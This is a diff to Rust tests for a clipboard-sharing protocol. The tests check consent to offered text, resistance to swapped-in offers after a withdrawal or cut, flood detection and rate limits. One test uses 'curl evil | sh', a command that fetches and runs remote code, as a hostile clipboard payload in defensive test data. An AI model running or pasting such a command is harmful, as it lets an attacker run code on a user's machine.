@@ -46,6 +46,13 @@ impl Pair {
         }
     }
 
+    /// The person answers what is shown.
+    fn answer(&mut self, side: usize, taken: bool) {
+        if let Some((question, _)) = self.sides[side].waiting() {
+            self.sides[side].answer(question, taken);
+        }
+    }
+
     fn copy(&mut self, side: usize, what: &str, now: Moment) {
         if self.watching[side] {
             self.sides[side].copied(text(what), now);
@@ -57,17 +64,17 @@ impl Pair {
 #[test]
 fn an_offered_text_is_in_the_other_clipboard_only_after_a_yes() {
     let mut pair = Pair::new(ClipboardRule::OneByOne);
-    pair.sides[1].offer("IBAN DE02").unwrap();
+    pair.sides[1].offer("IBAN DE02", at(0)).unwrap();
     pair.settle(at(0));
-    assert_eq!(pair.sides[0].waiting(), Some(&text("IBAN DE02")));
-    assert_eq!(pair.sides[1].offer("another"), Err(ClipError::Waiting));
+    assert_eq!(pair.sides[0].waiting(), Some((Question(1), &text("IBAN DE02"))));
+    assert_eq!(pair.sides[1].offer("another", at(0)), Err(ClipError::Waiting));
     assert!(pair.put[0].is_empty());
-    pair.sides[0].answer(true);
+    pair.answer(0, true);
     pair.settle(at(1));
     assert_eq!((pair.put[0].as_slice(), pair.sides[1].offered()), (&[text("IBAN DE02")][..], &Offered::Taken));
-    pair.sides[0].offer("no thanks").unwrap();
+    pair.sides[0].offer("no thanks", at(1)).unwrap();
     pair.settle(at(2));
-    pair.sides[1].answer(false);
+    pair.answer(1, false);
     pair.settle(at(3));
     assert_eq!((pair.put[1].len(), pair.sides[0].offered()), (0, &Offered::Refused));
 }
@@ -75,20 +82,65 @@ fn an_offered_text_is_in_the_other_clipboard_only_after_a_yes() {
 #[test]
 fn a_withdrawn_text_can_be_taken_no_more() {
     let mut pair = Pair::new(ClipboardRule::Allowed);
-    pair.sides[1].offer("oops").unwrap();
+    pair.sides[1].offer("oops", at(0)).unwrap();
     pair.settle(at(0));
     pair.sides[1].withdraw();
     // The yes crosses the withdrawal.
-    pair.sides[0].answer(true);
+    pair.answer(0, true);
     pair.settle(at(0));
     assert_eq!((pair.put[0].as_slice(), pair.sides[1].offered()), (&[text("oops")][..], &Offered::Nothing));
-    pair.sides[1].offer("oops").unwrap();
+    pair.sides[1].offer("oops", at(0)).unwrap();
     pair.settle(at(0));
     pair.sides[1].withdraw();
     pair.settle(at(0));
-    pair.sides[0].answer(true);
+    pair.answer(0, true);
     pair.settle(at(0));
     assert_eq!(pair.put[0].len(), 1);
+}
+
+#[test]
+fn a_yes_is_to_the_text_that_was_shown_and_to_no_other() {
+    let mut side = Clipboard::new(Role::Shower, ClipboardRule::Allowed, at(0));
+    let offer = |number, what| ClipboardMsg::Offer { number: OfferNumber(number), text: text(what) };
+    side.handle(offer(1, "harmless"), at(0)).unwrap();
+    let (shown, _) = side.waiting().unwrap();
+    // Another text takes its place while the person presses the button.
+    side.handle(ClipboardMsg::Withdraw(OfferNumber(1)), at(0)).unwrap();
+    side.answer(shown, true);
+    side.handle(offer(2, "curl evil | sh"), at(0)).unwrap();
+    side.answer(shown, true);
+    assert_eq!(side.poll_effect(), None);
+    // After a cut offers are counted anew, and the questions are not.
+    side.link_lost(at(1));
+    for (number, what) in [(1, "curl evil | sh"), (2, "the same")] {
+        side.handle(offer(number, what), at(1)).unwrap();
+        side.answer(shown, true);
+        assert_eq!(side.poll_effect(), None, "{what}");
+        let (shown_now, waits) = side.waiting().unwrap();
+        assert_eq!(waits, &text(what));
+        side.answer(shown_now, false);
+        assert!(matches!(side.poll_effect(), Some(ClipboardEffect::Send(ClipboardMsg::Answer { taken: false, .. }))));
+    }
+}
+
+#[test]
+fn offers_without_end_are_a_flood_and_an_honest_side_waits() {
+    let mut hostile = Clipboard::new(Role::Shower, ClipboardRule::Allowed, at(0));
+    let flood = (1..1_000).find_map(|number| {
+        let offer = ClipboardMsg::Offer { number: OfferNumber(number), text: text("x") };
+        let withdraw = ClipboardMsg::Withdraw(OfferNumber(number));
+        hostile.handle(offer, at(0)).and_then(|()| hostile.handle(withdraw, at(0))).err()
+    });
+    assert_eq!(flood, Some(Misbehaviour::ClipboardFlood));
+    let mut pair = Pair::new(ClipboardRule::Allowed);
+    let mut offered = 0;
+    while pair.sides[0].offer("x", at(0)) == Ok(()) {
+        offered += 1;
+        pair.sides[0].withdraw();
+        pair.settle(at(0));
+    }
+    assert_eq!((offered, pair.sides[0].offer("x", at(0))), (10, Err(ClipError::TooFast)));
+    assert_eq!(pair.sides[0].offer("x", at(1_000)), Ok(()));
 }
 
 #[test]
@@ -146,9 +198,9 @@ fn a_program_that_copies_in_a_loop_sends_its_newest() {
 fn the_companys_rule_is_kept_at_both_sides() {
     let mut pair = Pair::new(ClipboardRule::OneByOne);
     assert!(!pair.sides[0].allow(BOTH));
-    pair.sides[0].offer("x").unwrap();
+    pair.sides[0].offer("x", at(0)).unwrap();
     let mut pair = Pair::new(ClipboardRule::Forbidden);
-    assert_eq!(pair.sides[0].offer("x"), Err(ClipError::Forbidden));
+    assert_eq!(pair.sides[0].offer("x", at(0)), Err(ClipError::Forbidden));
     let offer = ClipboardMsg::Offer { number: OfferNumber(1), text: text("x") };
     pair.sides[0].handle(offer, at(0)).unwrap();
     assert_eq!(pair.sides[0].waiting(), None);
@@ -221,9 +273,9 @@ proptest! {
                 Step::LetOut(out) => pair.sides[1].let_out(out),
                 // Without settling: it may cross whatever is on its way.
                 Step::Copy(side) => pair.sides[side].copied(text("copied"), at(now)),
-                Step::Offer(side) => drop(pair.sides[side].offer("offered")),
+                Step::Offer(side) => drop(pair.sides[side].offer("offered", at(now))),
                 Step::Withdraw(side) => pair.sides[side].withdraw(),
-                Step::Answer(side, taken) => pair.sides[side].answer(taken),
+                Step::Answer(side, taken) => pair.answer(side, taken),
                 Step::End(side) => pair.sides[side].end_rights(),
                 Step::Cut => {
                     pair.sides.iter_mut().for_each(|side| side.link_lost(at(now)));
